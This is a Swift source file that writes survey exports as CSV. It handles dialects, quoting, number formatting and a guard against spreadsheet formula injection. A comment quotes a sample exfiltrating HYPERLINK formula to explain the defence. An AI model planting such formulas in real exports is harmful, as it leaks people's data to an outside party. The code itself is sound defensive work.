import SurveyModel
import SurveyIntake
import SurveyStore

/// How CSV files are written.
public enum CSVDialect: String, Sendable, CaseIterable, Codable {
    /// RFC 4180: comma, CRLF line ends, UTF-8 without BOM, decimal point.
    case rfc4180
    /// What Danish Excel opens directly: semicolon, UTF-8 with BOM, decimal comma.
    case excelDanish = "excel-da"

    var delimiter: UInt8 { self == .excelDanish ? UInt8(ascii: ";") : UInt8(ascii: ",") }
    var decimalSeparator: String { self == .excelDanish ? "," : "." }
    var byteOrderMark: [UInt8] { self == .excelDanish ? [0xEF, 0xBB, 0xBF] : [] }
}

/// Writes one CSV file field by field into a buffer that goes to `output` every 256 KiB, so
/// that an export of any size needs the same little memory; without an output the whole table
/// stays in `bytes` (for small listings). Fields with the delimiter, a quote, CR or LF are
/// quoted, quotes doubled; records end with CRLF.
///
/// Text fields that a spreadsheet would take for a formula (see `FormulaGuard`) get a single
/// quote in front, as OWASP advises for CSV files from outside; numbers (`integer`, and
/// `CSVValue.integer` / `.decimal`) are written as they are.
struct CSVWriter {
    let dialect: CSVDialect
    private let output: ReplacementFile?
    private var buffer: [UInt8] = []
    private var fieldsInRecord = 0
    private static let flushSize = 256 * 1024

    init(dialect: CSVDialect, header: [String], output: ReplacementFile) throws {
        self.dialect = dialect
        self.output = output
        buffer.reserveCapacity(Self.flushSize + 64 * 1024)
        buffer += dialect.byteOrderMark
        for name in header { text(name) }
        try endRecord()
    }

    /// A writer that keeps the whole table in memory, in `bytes`.
    init(dialect: CSVDialect, header: [String]) {
        self.dialect = dialect
        output = nil
        buffer += dialect.byteOrderMark
        write(header.map(CSVValue.text))
    }

    /// Everything written so far (all of it, for an in-memory writer).
    var bytes: [UInt8] { buffer }

    /// One whole record of an in-memory writer.
    mutating func write(_ fields: [CSVValue]) {
        for field in fields { value(field) }
        buffer.append(0x0D)
        buffer.append(0x0A)
        fieldsInRecord = 0
    }

    /// An empty field (SQL NULL).
    mutating func empty() {
        separate()
    }

    mutating func text(_ text: String) {
        var text = text
        text.withUTF8 { self.text(bytes: $0) }
    }

    /// A text field from UTF-8 bytes.
    mutating func text(bytes: UnsafeBufferPointer<UInt8>) {
        field(bytes: bytes, guarded: FormulaGuard.isNeeded(bytes))
    }

    /// A number already in the dialect's notation: never guarded (`-1` stays data).
    private mutating func number(_ text: String) {
        var text = text
        text.withUTF8 { field(bytes: $0, guarded: false) }
    }

    private mutating func field(bytes: UnsafeBufferPointer<UInt8>, guarded: Bool) {
        separate()
        let delimiter = dialect.delimiter
        var needsQuotes = false
        for byte in bytes where byte == delimiter || byte == 0x22 || byte == 0x0A || byte == 0x0D {
            needsQuotes = true
            break
        }
        guard needsQuotes else {
            if guarded { buffer.append(FormulaGuard.prefix) }
            buffer.append(contentsOf: bytes)
            return
        }
        buffer.append(0x22)
        if guarded { buffer.append(FormulaGuard.prefix) }
        for byte in bytes {
            if byte == 0x22 { buffer.append(0x22) }
            buffer.append(byte)
        }
        buffer.append(0x22)
    }

    /// An integer in decimal, as `String(value)` writes it.
    mutating func integer(_ value: Int64) {
        separate()
        if value < 0 { buffer.append(UInt8(ascii: "-")) }
        var magnitude = value.magnitude
        var digits: (UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8,
                     UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8) =
            (0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
        var count = 0
        withUnsafeMutableBytes(of: &digits) { digits in
            repeat {
                digits[count] = UInt8(ascii: "0") + UInt8(magnitude % 10)
                magnitude /= 10
                count += 1
            } while magnitude > 0
            for index in stride(from: count - 1, through: 0, by: -1) { buffer.append(digits[index]) }
        }
    }

    /// A field given as a `CSVValue` (decimals: four places at most, the dialect's separator).
    mutating func value(_ value: CSVValue) {
        switch value {
        case .text, .optionalText: text(value.text(dialect))
        case .integer, .decimal: number(value.text(dialect))
        }
    }

    /// Ends the record and hands the buffer to the file once it is big enough.
    mutating func endRecord() throws {
        buffer.append(0x0D)
        buffer.append(0x0A)
        fieldsInRecord = 0
        if output != nil, buffer.count >= Self.flushSize { try flush() }
    }

    /// Writes what is buffered (an in-memory writer keeps it).
    mutating func flush() throws {
        guard let output else { return }
        try buffer.withUnsafeBytes { try output.write($0) }
        buffer.removeAll(keepingCapacity: true)
    }

    private mutating func separate() {
        if fieldsInRecord > 0 { buffer.append(dialect.delimiter) }
        fieldsInRecord += 1
    }
}

/// Spreadsheet formula injection (CSV injection, OWASP): Excel, LibreOffice and Google Sheets
/// run a cell that starts with `=`, `+`, `-` or `@` as a formula — `=HYPERLINK("http://…?leak="&A2)`
/// in a project title would send the row to whoever wrote it — and also one that starts so
/// after leading white space, or with a tab or carriage return. Such a text cell is written
/// with a single quote in front (`'=HYPERLINK(…)`), which spreadsheets show as text. Only the
/// CSV exports do this; the store and the JSON keep the text exactly as written.
enum FormulaGuard {
    /// The single quote put in front.
    static let prefix = UInt8(ascii: "'")

    /// Whether a text cell of these UTF-8 bytes would be read as a formula.
    static func isNeeded(_ bytes: UnsafeBufferPointer<UInt8>) -> Bool {
        guard let first = bytes.first else { return false }
        if first == 0x09 || first == 0x0D { return true }
        var index = 0
        while index < bytes.count, [0x20, 0x09, 0x0A, 0x0D].contains(bytes[index]) { index += 1 }
        guard index < bytes.count else { return false }
        switch bytes[index] {
        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"):
            return true
        case 0xEF:
            // The full-width forms some spreadsheets also accept: ＝ ＋ － ＠ (U+FF1D, FF0B, FF0D, FF20).
            guard index + 2 < bytes.count else { return false }
            return bytes[index + 1] == 0xBC && [0x9D, 0x8B, 0x8D, 0xA0].contains(bytes[index + 2])
        default:
            return false
        }
    }

    static func isNeeded(_ text: String) -> Bool {
        var text = text
        return text.withUTF8 { isNeeded($0) }
    }
}

/// A CSV field: text as is, numbers in the dialect's decimal notation, nil as empty.
enum CSVValue {
    case text(String)
    case optionalText(String?)
    case integer(Int)
    case decimal(Double)

    func text(_ dialect: CSVDialect) -> String {
        switch self {
        case .text(let value): return value
        case .optionalText(let value): return value ?? ""
        case .integer(let value): return String(value)
        case .decimal(let value):
            // Four decimals at most, no trailing zeros: 1, 0.875, 0.9412.
            var text = String((value * 10_000).rounded() / 10_000)
            if text.hasSuffix(".0") { text.removeLast(2) }
            return dialect.decimalSeparator == "." ? text : text.replacingOccurrences(of: ".", with: dialect.decimalSeparator)
        }
    }
}

/// A small table as CSV bytes, written by the exports' `CSVWriter` (quoting, CRLF, the formula
/// guard): for listings a command prints, such as `links`.
public enum CSVTable {
    public static func bytes(header: [String], rows: [[String?]], dialect: CSVDialect = .rfc4180) -> [UInt8] {
        var writer = CSVWriter(dialect: dialect, header: header)
        for row in rows { writer.write(row.map(CSVValue.optionalText)) }
        return writer.bytes
    }
}
